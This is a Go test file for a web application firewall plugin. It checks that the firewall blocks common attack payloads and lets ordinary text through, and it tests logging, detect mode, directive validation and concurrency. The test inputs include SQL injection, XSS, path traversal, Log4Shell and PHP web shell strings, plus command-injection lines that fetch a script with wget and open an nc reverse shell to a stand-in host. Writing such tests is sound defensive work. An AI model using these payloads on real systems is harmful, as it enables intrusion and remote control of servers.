package main

import (
	"context"
	"errors"
	"fmt"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/corazawaf/coraza/v3/types"

	"github.com/ergoproxy/ergo/sdk/plugin"
)

// blocking has the default configuration; compiling the rules takes a while.
var blocking = sync.OnceValues(func() (*firewall, error) { return newFirewall([]byte(`{}`)) })

func defaults(t testing.TB) *firewall {
	t.Helper()
	f, err := blocking()
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func request(method, target string, fields ...string) *plugin.Request {
	r := &plugin.Request{
		Method: method, Scheme: "https", Authority: "www.example.com:8443", Target: target, ID: "test", Client: "192.0.2.7", Protocol: "HTTP/1.1",
	}
	r.Header.Add("User-Agent", "Mozilla/5.0")
	r.Header.Add("Accept", "*/*")
	for n := 0; n < len(fields); n += 2 {
		r.Header.Add(fields[n], fields[n+1])
	}
	return r
}

// inspect takes a request through its phases, and ends it.
func inspect(t testing.TB, f *firewall, r *plugin.Request, body string) (*types.Interruption, entry) {
	t.Helper()
	r.HasBody = body != ""
	i := f.begin(r)
	stop := i.tx.ProcessRequestHeaders()
	if stop == nil {
		var err error
		if stop, err = i.requestBody([]byte(body)); err != nil {
			t.Error(err)
		}
	}
	e := f.entry(i, let)
	if err := i.end(); err != nil {
		t.Error(err)
	}
	return stop, e
}

const form = "application/x-www-form-urlencoded"

// TestAttacks are those that are told of most, in the places that they come by.
func TestAttacks(t *testing.T) {
	for name, payload := range map[string]string{
		"tautology": "1' or '1'='1", "union": "-1 union select user,password from users", "stacked": "1; drop table users",
		"blind": "1 and sleep(10)", "comment": "admin'--", "benchmark": "1' and benchmark(5000000,md5(1))--",
		"script": "<script>alert(1)</script>", "handler": "<img src=x onerror=alert(1)>", "svg": "<svg/onload=alert(1)>",
		"javascript url": `<a href="javascript:alert(1)">x</a>`, "iframe": `<iframe src="javascript:alert(1)">`,
		"traversal": "../../../../etc/passwd", "windows traversal": `..\..\..\windows\win.ini`, "null": "../../etc/passwd%00.png",
		"shadow": "/etc/shadow", "proc": "/proc/self/environ",
		"cat": "; cat /etc/passwd", "backtick": "`id`; uname -a", "subshell": "$(wget http://192.0.2.66/x.sh)", "pipe": "| nc -e /bin/sh 192.0.2.66 4444",
		"powershell": "powershell -enc SQBFAFgA", "php": "<?php system($_GET['c']); ?>", "php wrapper": "php://filter/convert.base64-encode/resource=index.php",
		"remote file": "http://192.0.2.66/shell.php?", "jndi": "${jndi:ldap://192.0.2.66/a}", "hidden jndi": "${${lower:j}ndi:ldap://192.0.2.66/a}",
		"node":     "require('child_process').exec('id')",
		"metadata": "http://169.254.169.254/latest/meta-data/", "java": "java.lang.Runtime.getRuntime().exec('id')",
		"splitting": "x\r\nSet-Cookie: a=b",
	} {
		t.Run(name, func(t *testing.T) {
			f := defaults(t)
			for place, see := range map[string]func() (*types.Interruption, entry){
				"query": func() (*types.Interruption, entry) { return inspect(t, f, request("GET", "/a?x="+escape(payload)), "") },
				"form": func() (*types.Interruption, entry) {
					body := "x=" + escape(payload)
					return inspect(t, f, request("POST", "/a", "Content-Type", form, "Content-Length", fmt.Sprint(len(body))), body)
				},
				"json": func() (*types.Interruption, entry) {
					body := fmt.Sprintf(`{"a": {"b": [%q]}}`, payload)
					return inspect(t, f, request("POST", "/a", "Content-Type", "application/json", "Content-Length", fmt.Sprint(len(body))), body)
				},
			} {
				if stop, e := see(); stop == nil || stop.Status != 403 || e.in < f.Threshold.In {
					t.Errorf("in %s: got %+v, score %d, rules %s", place, stop, e.in, e.rules())
				}
			}
		})
	}
}

func escape(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02x", c)
	}
	return b.String()
}

// What people write must not be taken for attacks, at the level that is the default.
func TestOrdinaryTexts(t *testing.T) {
	f := defaults(t)
	for _, text := range []string{
		"O'Hara & Sons", "Select the best of both worlds", "Where do you want to go today?", "5 is more than 3, and 2 less than 4", "Union Street 1; Portland, OR",
		"50% off, today only!", "a@example.com", "Grüße aus Köln", "日本語", "C:\\Users\\ann", "https://example.com/a?b=c&d=e", "{\"a\": 1}",
		"I'd like 2 or 3 of these", "2026-11-28T23:15:00+01:00", "price: $12.50 (incl. VAT)",
	} {
		body := "text=" + escape(text)
		stop, e := inspect(t, f, request("POST", "/a", "Content-Type", form, "Content-Length", fmt.Sprint(len(body))), body)
		if stop != nil {
			t.Errorf("%q: refused with score %d by %s", text, e.in, e.rules())
		}
	}
}

// The log tells which rules matched, and nothing of what they matched.
func TestEntryTellsNoContent(t *testing.T) {
	f := defaults(t)
	_, e := inspect(t, f, request("GET", "/a?secret=1'+or+'1'='1", "Cookie", "session=hunter2", "Authorization", "Bearer hunter2"), "")
	if !strings.Contains(e.rules(), "942100:critical") || e.in < 5 {
		t.Errorf("got score %d, rules %s", e.in, e.rules())
	}
	if text := fmt.Sprint(e); strings.Contains(text, "hunter2") || strings.Contains(text, "secret") {
		t.Errorf("the entry tells of the request: %s", text)
	}
}

func TestEntryIsBounded(t *testing.T) {
	e := entry{}
	for n := range 1000 {
		e.matches = append(e.matches, match{900_000 + n, "critical"})
	}
	if got := e.rules(); len(got) > 1000 || !strings.HasSuffix(got, " more") {
		t.Errorf("got %d bytes, ending in %q", len(got), got[len(got)-20:])
	}
	if got := len(e.measures()); got > 4 {
		t.Errorf("got %d metrics of one group of rules", got)
	}
}

func TestDetectTellsWhatItWouldRefuse(t *testing.T) {
	f, err := newFirewall([]byte(`{"mode": "detect"}`))
	if err != nil {
		t.Fatal(err)
	}
	if stop, e := inspect(t, f, request("GET", "/a?x=1'+or+'1'='1"), ""); stop != nil || e.outcome != wouldBe {
		t.Errorf("an attack: got %+v, outcome %q", stop, e.outcome)
	}
	if stop, e := inspect(t, f, request("GET", "/a?x=1"), ""); stop != nil || e.outcome != let {
		t.Errorf("no attack: got %+v, outcome %q by %s", stop, e.outcome, e.rules())
	}
}

func TestHostHasNoPort(t *testing.T) {
	for authority, want := range map[string]string{"a.example": "a.example", "a.example:80": "a.example", "[::1]:80": "::1", "": ""} {
		if got := hostOf(authority); got != want {
			t.Errorf("%q: got %q, want %q", authority, got, want)
		}
	}
}

func TestGRPCIsTold(t *testing.T) {
	f := defaults(t)
	for _, c := range []struct {
		method, protocol, kind string
		want                   bool
	}{
		{"POST", "HTTP/2.0", "application/grpc", true}, {"POST", "HTTP/2.0", "application/grpc+proto", true},
		{"POST", "HTTP/1.1", "application/grpc", false}, {"PUT", "HTTP/2.0", "application/grpc", false},
		{"POST", "HTTP/2.0", "application/grpcx", false}, {"POST", "HTTP/2.0", "application/json", false}, {"POST", "HTTP/2.0", "", false},
	} {
		r := request(c.method, "/a.B/C", "Content-Type", c.kind)
		r.Protocol = c.protocol
		if got := f.isGRPC(r); got != c.want {
			t.Errorf("%+v: got %v", c, got)
		}
	}
}

// TestHammer has many exchanges inspected side by side: each is judged by what is its own.
func TestHammer(t *testing.T) {
	f := defaults(t)
	var group sync.WaitGroup
	for n := range 8 {
		group.Go(func() {
			for k := range 20 {
				attack := (n+k)%2 == 0
				text := "nothing"
				if attack {
					text = "1' or '1'='1"
				}
				body := fmt.Sprintf(`{"n": %d, "x": %q}`, k, text)
				stop, e := inspect(t, f, request("POST", "/a", "Content-Type", "application/json", "Content-Length", fmt.Sprint(len(body))), body)
				if (stop != nil) != attack {
					t.Errorf("%s: got %+v, score %d", body, stop, e.in)
				}
			}
		})
	}
	group.Wait()
}

var directives = []struct {
	text string
	fits bool
}{
	{"", true}, {"# nothing", true}, {"SecRule ARGS \"@rx a\" \"id:1,phase:2,deny\"", true},
	{"  secaction \"id:2,phase:1,pass\"\n\nSecMarker A", true},
	{"SecRule ARGS \"@rx a\" \\\n  \"id:1,\\\n  phase:2,deny\"", true},
	{"SecRuleRemoveById 942100 942200-942299", true}, {"SecRuleUpdateTargetById 942100 !ARGS:a", true},
	{"SecRuleEngine Off", false}, {"secruleengine off", false}, {"Include /etc/passwd", false}, {"SecAuditLog /tmp/a", false},
	{"SecRemoteRules key https://192.0.2.66/", false}, {"SecDebugLog /tmp/a", false}, {"SecRequestBodyAccess Off", false},
	{"SecAction \"id:1,phase:1,pass\"\nSecRuleEngine Off", false}, {"SecAction\t\"id:1,phase:1,pass\"", true},
	{"SecRule ARGS \"@rx a\" \"id:1,phase:2,pass,exec:/bin/sh\"", false}, {"SecRule ARGS \"@inspectFile /bin/sh\" \"id:1\"", false},
	{"SecRule ARGS \"@inspect\\\nFile /bin/sh\" \"id:1\"", false}, {"SecRule ARGS \"@rx a\" \"id:1,ex\\\n ec:/bin/sh\"", false},
	{"SecRule REMOTE_ADDR \"@rbl a.example\" \"id:1\"", false}, {"SecAction \"id:1,phase:1,initcol:ip=a\"", false},
	{"SecDataset a `\nb\n`", false}, {"SecRule ARGS `", false}, {"# a \\\nSecRuleEngine Off", false},
}

func TestDirectives(t *testing.T) {
	for _, c := range directives {
		if err := checkDirectives(c.text); (err == nil) != c.fits {
			t.Errorf("%q: got %v", c.text, err)
		}
	}
}

// FuzzDirectives: what is let through names no directive but those that may stand here.
func FuzzDirectives(f *testing.F) {
	for _, c := range directives {
		f.Add(c.text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if checkDirectives(text) != nil {
			return
		}
		continued := false
		for line := range strings.Lines(text) {
			line = strings.TrimSpace(line)
			if line == "" || strings.HasPrefix(line, "#") {
				continue
			}
			if !continued {
				name := strings.ToLower(strings.Fields(line)[0])
				if !ownDirectives[name] {
					t.Fatalf("%q lets %q through", text, name)
				}
			}
			continued = strings.HasSuffix(line, `\`)
		}
	})
}

// TestLargeBodiesTakeTurns has all turns taken: small bodies are inspected all the same, and a large one is not once
// the host has given it up.
func TestLargeBodiesTakeTurns(t *testing.T) {
	f := defaults(t)
	for range cap(f.turns) {
		f.turns <- struct{}{}
	}
	ask := func(ctx context.Context, size int) error {
		t.Helper()
		body := "text=" + strings.Repeat("x", size-5)
		x := &plugin.Exchange{Request: *request("POST", "/", "Content-Type", form, "Content-Length", strconv.Itoa(size))}
		i := f.begin(&x.Request)
		x.Value = i
		defer i.end()
		if stop := i.tx.ProcessRequestHeaders(); stop != nil {
			t.Fatal(stop)
		}
		return f.OnRequestBody(ctx, x, []byte(body))
	}
	if err := ask(t.Context(), largeBytes-1); err != nil {
		t.Errorf("small: got %v", err)
	}
	late, giveUp := context.WithCancel(t.Context())
	giveUp()
	if err := ask(late, largeBytes); !errors.Is(err, context.Canceled) {
		t.Errorf("given up: got %v", err)
	}
	waits := make(chan error)
	go func() { waits <- ask(t.Context(), largeBytes) }()
	<-f.turns
	if err := <-waits; err != nil {
		t.Errorf("in its turn: got %v", err)
	}
	for range cap(f.turns) - 1 {
		<-f.turns
	}
	if len(f.turns) != 0 {
		t.Errorf("%d turns were not ended", len(f.turns))
	}
}
